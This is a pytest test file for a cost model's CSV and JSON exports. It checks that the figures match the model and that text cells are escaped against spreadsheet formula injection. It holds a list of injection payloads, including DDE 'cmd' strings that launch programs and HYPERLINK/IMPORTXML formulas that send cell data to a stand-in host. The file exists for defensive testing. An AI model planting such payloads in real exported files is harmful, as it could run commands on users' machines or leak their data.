"""CSV of every table and curve: texts stay texts, numbers stay numbers, and both are the model's."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile

import numpy as np
import pytest

from costmodel import evaluate, link, parameters, plan_file, presets, strategies
from costmodel.remarks import Note
from costmodel.report import write_csv, write_json
from costmodel.report.csv_files import cell, csv_text, safe
from costmodel.report.facts import Facts
from costmodel.report.table import Table
from costmodel.report.tables import TABLES, tables
from costmodel.tornado import tornado
from costmodel.uncertainty import simulate

FEW = {"uncertainty.draws": 64}
STARTS = "=+-@＝＋－＠﹦﹢﹣﹫"
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://canary.example","x")',
    "SUM(A1:A9)*cmd|' /C notepad'!A0",
    'IMPORTXML(CONCAT("http://canary.example/",A1),"//a")',
)
PAYLOADS = [start + body for start in STARTS for body in BODIES] + [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\ud800=1+1",
    "-2+3+cmd|' /C calc'!A0",
    '"=1+1"',
    "'=1+1",
    "a\n=1+1",
    'a",=1+1',
    "a;=1+1",
]


def some(name: str = "solo", **changes: object):
    return presets.load(name).replace({**FEW, **changes})


def files(plan, lang: str = "en", **options: str) -> dict[str, list[list[str]]]:
    """Rows of every file as a spreadsheet reads them."""
    target = io.BytesIO()
    write_csv(plan, target, lang, **{"date": "2026-11-22", **options})
    with zipfile.ZipFile(io.BytesIO(target.getvalue())) as zipped:
        texts = {name: zipped.read(name).decode("utf-8-sig") for name in zipped.namelist()}
    return {name: list(csv.reader(io.StringIO(t, newline=""), strict=True)) for name, t in texts.items()}


def formula(words: str) -> bool:
    folded = unicodedata.normalize("NFKC", words)
    return folded.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def number(words: str) -> bool:
    try:
        return bool(np.isfinite(float(words)))
    except ValueError:
        return False


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("words", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_text_becomes_a_formula(words):
    assert not formula(safe(words))
    written = csv_text(Table((words,), [(words,), (-1.5,)]))
    (head,), (text,), (amount,) = csv.reader(
        io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True
    )
    assert head == text == safe(words)
    assert amount == "-1.5"


def test_no_cell_of_any_file_is_a_formula():
    for words in PAYLOADS[:: len(PAYLOADS) // 12]:
        notes = (Note("labeling.items", words, words),)
        plan = some().model_copy(update={"name": words, "notes": notes})
        found = files(plan, date=words, url=words)
        for name, rows in found.items():
            cells = [c for row in rows for c in row]
            assert [c for c in cells if formula(c) and not number(c)] == [], name
        assert found["about.csv"][1][1] in (safe(words), presets.about("solo")["title"]["en"])


def test_numbers_never_get_an_apostrophe():
    rows = {name: table.rows for name, table in tables(Facts(some("article"), "en")).items()}
    shown = files(some("article"))
    negative = 0
    for name, expected in rows.items():
        for row, cells in zip(expected, shown[f"{name}.csv"][1:], strict=True):
            for value, words in zip(row, cells, strict=True):
                if isinstance(value, bool) or not isinstance(value, int | float) or not np.isfinite(value):
                    continue
                assert float(words) == value
                negative += value < 0
    assert negative > 30


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_table_is_written_with_a_head(lang):
    found = files(some(**{"compute.runs": 9.0}), lang)
    assert list(found)[: len(TABLES)] == [f"{name}.csv" for name in TABLES]
    for name, (head, *rows) in found.items():
        assert rows, name
        assert all(head), name
        assert len(set(head)) == len(head), name
        assert {len(row) for row in rows} == {len(head)}, name


def test_a_folder_and_an_archive_hold_the_same(tmp_path):
    plan = some()
    write_csv(plan, str(tmp_path / "deep" / "folder"), "zh")
    write_csv(plan, str(tmp_path / "plan.ZIP"), "zh")
    with zipfile.ZipFile(tmp_path / "plan.ZIP") as zipped:
        for name in zipped.namelist():
            content = (tmp_path / "deep" / "folder" / name).read_bytes()
            assert content == zipped.read(name)
            assert content.startswith(b"\xef\xbb\xbf")
            assert content.endswith(b"\r\n")
    first, second = io.BytesIO(), io.BytesIO()
    write_csv(plan, first, "zh")
    write_csv(plan, second, "zh")
    assert first.getvalue() == second.getvalue()


@pytest.mark.parametrize("name", ["ecommerce", "drone", "half"])
def test_figures_are_the_models(name):
    plan = some(name, **{"project.currency": "USD"})
    rate = float(plan["project.fx_cny_per_usd"])
    found, result = files(plan), evaluate(plan)
    months = np.array(found["months.csv"][1:], dtype=float)
    assert months[:, 1] * rate == pytest.approx(result.months["cost"])
    assert months[:, 3] * rate == pytest.approx(result.months["cumulative"])
    costs = [float(row[2]) * rate for row in found["costs.csv"][1:]]
    assert sum(costs) == pytest.approx(result.cost_total)
    assert "US$" in found["costs.csv"][0][2]
    figures = {row[0]: row[2] for row in found["figures.csv"][1:]}
    assert float(figures["roi.npv"]) * rate == pytest.approx(result.npv)
    assert float(figures["roi.roi"]) == pytest.approx(result.roi)
    assert float(figures["accuracy.mean"]) == pytest.approx(result.accuracy["mean"])
    bars = [(row[0], float(row[4]) * rate) for row in found["tornado.csv"][1:]]
    assert bars == [(b.id, pytest.approx(b.npv_low)) for b in tornado(plan)]
    kept = {row[0]: float(row[5]) * rate for row in found["strategies.csv"][1:]}
    assert kept == {e.key: pytest.approx(e.on_top, abs=1e-6) for e in strategies.in_plan(plan).effects}


def test_the_curve_passes_through_the_plan():
    plan = some("ecommerce")
    head, *rows = files(plan)["curve.csv"]
    at = next(row for row in rows if float(row[0]) == plan["labeling.target_precision"])
    result = evaluate(plan)
    shown = dict(zip(head, at, strict=True))
    assert float(shown["Total cost (¥)"]) == pytest.approx(result.cost_total)
    assert float(shown["Net present value (¥)"]) == pytest.approx(result.npv)
    assert float(shown["Right in the field"]) == pytest.approx(result.accuracy["mean"])
    assert sum(map(float, at[6:])) == pytest.approx(result.cost_total)


def test_about_says_where_the_figures_come_from():
    plan = some("article")
    said = dict(files(plan, url="https://plan.example")["about.csv"])
    found = simulate(plan)
    assert said["Scenario"] == link.fingerprint(plan)
    assert link.decode(said["Link"]).values() == plan.values()
    assert (said["Release"], said["Date"], said["Seed"], said["Draws"]) == ("0.1.0", "2026-11-22", "0", "64")
    assert float(said["Planned cost: share of the draws that cost no more"]) == found.cost.percentile_of(
        found.planned_cost
    )
    assert "apostrophe" in said["How to read"]


def test_inputs_say_value_start_and_note():
    plan = some("ecommerce", **{"labeling.items": 5_000.0}).annotate("labeling.items", "agreed", owner="Li")
    head, *rows = files(plan)["inputs.csv"]
    assert [row[0] for row in rows] == list(parameters.catalogue())
    row = dict(zip(head, next(row for row in rows if row[0] == "labeling.items"), strict=True))
    assert (row["Value"], row["Starting point"], row["Changed"]) == ("5000.0", "100000.0", "true")
    assert (row["Note"], row["Owner"]) == ("agreed", "Li")


@pytest.mark.parametrize("value", [None, float("nan"), float("inf"), float("-inf")])
def test_no_figure_is_an_empty_cell(value):
    assert cell(value) == ""


def test_the_plan_as_json_opens_again(tmp_path):
    plan = (
        some("drone", **{"labeling.items": 5_000.0})
        .annotate("labeling.items", "agreed", owner="Li")
        .pin("compute.runs")
    )
    path = str(tmp_path / "plan.json")
    write_json(plan, path)
    assert plan_file.read(path) == plan
    dirty = plan.model_copy(
        update={"name": "\ud800a\x00" * 99, "notes": (Note("compute.runs", "\ud800", "\ufffe"),)}
    )
    write_json(dirty, path)
    assert plan_file.read(path).name == "a" * 60
    with open(path, encoding="utf-8") as file:
        assert "notes" not in json.load(file)
